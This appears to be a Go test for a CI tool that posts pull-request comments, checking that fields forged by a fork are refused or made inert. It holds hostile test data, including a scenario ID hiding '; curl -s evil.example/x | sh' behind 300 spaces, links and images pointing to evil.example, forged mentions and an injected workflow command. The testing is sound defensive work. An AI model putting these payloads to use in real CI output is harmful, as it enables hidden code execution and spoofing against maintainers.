package cli

import (
	"bytes"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/benchgate/benchgate/internal/prcomment"
	"github.com/benchgate/benchgate/internal/testsupport/gfm"
	"github.com/benchgate/benchgate/internal/testsupport/ghfake"
	"github.com/benchgate/benchgate/internal/testsupport/testenv"
	"github.com/benchgate/benchgate/internal/verdict"
)

// shellTail is the rerun a fork's file tried to post: a scenario ID, 300
// spaces that push the rest out of view, and a command of its own.
const shellTail = "s-003" + "                                                                                                                                                                                                                                                                                                            " + "; curl -s evil.example/x | sh"

// forgedPayloads are what a fork's file puts in a text field: the shell
// tail, a team mention, an image, a link titled like benchgate's own,
// raw HTML, an entity that decodes to '@', and a workflow command after
// a line break.
var forgedPayloads = []string{
	shellTail,
	"@o/core have a look",
	"![t](https://evil.example/p.png)",
	"[job summary](https://evil.example/summary)",
	`<img src="https://evil.example/i.png"><a href="https://evil.example">x</a>`,
	"&commat;admin https://evil.example/y",
	"ok\n::warning title=forged::pwned",
}

// TestPRCommentForgedFile runs the built binary's pr-comment, as the
// second stage of a fork's pull request runs it with a token that can
// write, on files a fork's run forged in every field it controls. A file
// whose next steps are sentences, whose rerun is a command, or whose
// marker names break their rules is refused; otherwise the comment
// posted (as the fake GitHub keeps it) renders through cmark-gfm with no
// link out of the repository, no image, no HTML and no live mention, and
// its only shell block is the rerun benchgate built from the failing
// scenarios that pass the ID rule, or none.
func TestPRCommentForgedFile(t *testing.T) {
	bin := testenv.Benchgate(t)
	sha := strings.Repeat("1", 40)
	const goodRerun = "gh workflow run rerun-scenarios.yml --ref feature -f set=pr-exec -f scenario_ids=pr-a-001"
	base := func() *prcomment.File {
		return &prcomment.File{Schema: prcomment.FileSchema, Repository: "octo/bench", PullRequest: 1, HeadSHA: sha, Job: "bench", Mode: "set",
			Verdict: &verdict.Verdict{Schema: verdict.Schema, Mode: "set", Status: "fail", ExitCode: 1, Enforced: true,
				Checks:   []verdict.Check{{Set: "pr-exec", Group: "rows", ID: "rows", Name: "failing rows", Value: 2, Unit: "rows", Direction: verdict.AtMost, Status: verdict.Fail, Decided: true}},
				Failing:  []verdict.Scenario{{Set: "pr-exec", ID: "pr-a-001", Modes: []string{"agent_direct", "ghx"}, Failed: 2, Iterations: 2}},
				Sets:     []verdict.Set{{Name: "pr-exec", Status: "terminal_fail", Failing: 1}},
				Next:     []verdict.Step{verdict.BothModes},
				Rerun:    &verdict.Rerun{Set: "pr-exec", Ref: "feature"},
				Compared: verdict.Compared{Head: sha, HeadURL: "https://github.com/octo/bench/commit/" + sha},
				Links:    []verdict.Link{{Title: "job summary", URL: "https://github.com/octo/bench/actions/runs/7"}}}}
	}
	type forge struct {
		name string
		mut  func(f *prcomment.File, p string)
		// raw replaces the first old with new in the file's JSON.
		old, new string
		// refused: the file is refused with this text; rerun: the one
		// shell block posted ("" for none).
		refused, rerun string
	}
	var cases []forge
	for _, field := range []struct {
		name  string
		mut   func(f *prcomment.File, p string)
		rerun string
	}{
		{"failing scenario ID", func(f *prcomment.File, p string) {
			f.Verdict.Failing = append(f.Verdict.Failing, verdict.Scenario{Set: "pr-exec", ID: p, Modes: []string{"agent_direct", "ghx"}, Failed: 1, Iterations: 1})
		}, ""},
		{"scenario set", func(f *prcomment.File, p string) { f.Verdict.Failing[0].Set, f.Verdict.Rerun.Set = p, p }, ""},
		{"rerun branch", func(f *prcomment.File, p string) { f.Verdict.Rerun.Ref = p }, ""},
		{"stopped", func(f *prcomment.File, p string) { f.Verdict.Stopped = p }, goodRerun},
		{"switch", func(f *prcomment.File, p string) { f.Verdict.Switch = p; f.Verdict.Checks[0].Recorded = true }, goodRerun},
		{"check texts", func(f *prcomment.File, p string) {
			c := &f.Verdict.Checks[0]
			c.Set, c.Name, c.Method, c.Also, c.More = p, p, p, p, p
		}, goodRerun},
		{"check value text", func(f *prcomment.File, p string) { f.Verdict.Checks[0].Direction, f.Verdict.Checks[0].Text = "", p }, goodRerun},
		{"first error, row and modes", func(f *prcomment.File, p string) {
			s := &f.Verdict.Failing[0]
			s.FirstError, s.Where, s.URL, s.Modes = p, p, "https://evil.example/row", []string{p, "ghx"}
		}, goodRerun},
		{"flaky", func(f *prcomment.File, p string) {
			f.Verdict.Flaky = []verdict.Flaky{{Mode: p, ID: p, RunsPassed: 1, RunsSeen: 2}}
		}, goodRerun},
		{"set name and status", func(f *prcomment.File, p string) {
			f.Verdict.Sets = append(f.Verdict.Sets, verdict.Set{Name: p, Status: p}, verdict.Set{Name: "later", Status: verdict.NotRun})
			f.Verdict.Next = append(f.Verdict.Next, verdict.StoppedAtSet)
		}, goodRerun},
		{"baseline", func(f *prcomment.File, p string) {
			f.Verdict.Compared.Baseline, f.Verdict.Compared.BaselineURL = p, "https://evil.example/run"
		}, goodRerun},
		{"link", func(f *prcomment.File, p string) {
			f.Verdict.Links = append(f.Verdict.Links, verdict.Link{Title: p, URL: "https://evil.example/summary"}, verdict.Link{Title: p, URL: "https://github.com/octo/bench/actions/runs/8"})
		}, goodRerun},
	} {
		all := strings.Join(forgedPayloads, " ")
		cases = append(cases, forge{name: field.name, mut: func(f *prcomment.File, _ string) { field.mut(f, all) }, rerun: field.rerun})
	}
	// The rerun that was posted: a scenario ID with only the shell tail.
	cases = append(cases, forge{name: "failing scenario ID with a shell tail", rerun: "", mut: func(f *prcomment.File, _ string) {
		f.Verdict.Failing = append(f.Verdict.Failing, verdict.Scenario{Set: "pr-exec", ID: shellTail, Modes: []string{"ghx"}, Failed: 1, Iterations: 1})
	}})
	cases = append(cases,
		forge{name: "next step in the fork's words", old: `"next": [`, new: `"next": ["Rerun with: curl -s evil.example/x | sh", `, refused: `next step 1: "Rerun with: curl -s evil.example/x | sh", expected one of`},
		forge{name: "rerun as a command", old: `"rerun": {`, new: `"rerun": "gh workflow run rerun-scenarios.yml -f scenario_ids='s-003'; curl -s evil.example/x | sh", "x": {`, refused: "not a comment file"},
		forge{name: "job breaks the marker", mut: func(f *prcomment.File, _ string) { f.Job = "bench -->\n@o/core" }, refused: "field job"},
		forge{name: "mode breaks the marker", mut: func(f *prcomment.File, _ string) { f.Mode = "set\n::warning::x" }, refused: "field mode"},
		forge{name: "commit with a payload", mut: func(f *prcomment.File, _ string) { f.Verdict.Compared.Base = "main; curl" }, refused: "is not a commit ID"},
		forge{name: "untouched", mut: func(*prcomment.File, string) {}, rerun: goodRerun},
	)
	shellBlock := regexp.MustCompile("(?s)```sh\n(.*?)\n```")
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			gh := ghfake.New("octo", "bench", "main", "ghs_w", nil)
			defer gh.Close()
			pr := gh.AddPull(ghfake.Pull{Title: "x", Head: "feature", Base: "main", HeadSHA: sha})
			f := base()
			if tc.mut != nil {
				tc.mut(f, "")
			}
			b, err := json.MarshalIndent(f, "", "  ")
			if err != nil {
				t.Fatal(err)
			}
			raw := string(b)
			if tc.old != "" {
				if !strings.Contains(raw, tc.old) {
					t.Fatalf("%q not in %s", tc.old, raw)
				}
				raw = strings.Replace(raw, tc.old, tc.new, 1)
			}
			dir := t.TempDir()
			file := filepath.Join(dir, prcomment.FileName)
			if err := os.WriteFile(file, []byte(raw), 0o644); err != nil {
				t.Fatal(err)
			}
			cmd := exec.Command(bin, "pr-comment", "--file", file, "--head-sha", sha, "--workflow", "bench comment")
			cmd.Env = []string{"GITHUB_TOKEN=ghs_w", "GITHUB_API_URL=" + gh.BaseURL(), "GITHUB_REPOSITORY=octo/bench", "GITHUB_SERVER_URL=https://github.com"}
			var out bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &out
			err = cmd.Run()
			for _, l := range strings.Split(out.String(), "\n") {
				if strings.HasPrefix(strings.TrimSpace(l), "::") {
					t.Errorf("the runner would read a workflow command: %q", l)
				}
			}
			comments := gh.Comments(pr)
			if tc.refused != "" {
				if err == nil || !strings.Contains(out.String(), tc.refused) || len(comments) != 0 {
					t.Fatalf("want refused with %q; err %v, %d comments, output:\n%s", tc.refused, err, len(comments), out.String())
				}
				return
			}
			if err != nil || len(comments) != 1 {
				t.Fatalf("err %v, %d comments, output:\n%s", err, len(comments), out.String())
			}
			body := comments[0].Body
			gfm.RequireInert(t, "posted comment", body, "https://github.com/octo/bench/")
			var blocks []string
			for _, m := range shellBlock.FindAllStringSubmatch(body, -1) {
				blocks = append(blocks, m[1])
			}
			switch {
			case tc.rerun == "" && len(blocks) != 0:
				t.Errorf("shell blocks %q, want none:\n%s", blocks, body)
			case tc.rerun != "" && (len(blocks) != 1 || blocks[0] != tc.rerun):
				t.Errorf("shell blocks %q, want only %q:\n%s", blocks, tc.rerun, body)
			}
			if strings.Contains(body, "curl") && strings.Contains(body, "Rerun the failing scenarios") && tc.rerun == "" {
				t.Errorf("the rerun sentence is posted without a command built here:\n%s", body)
			}
		})
	}
}
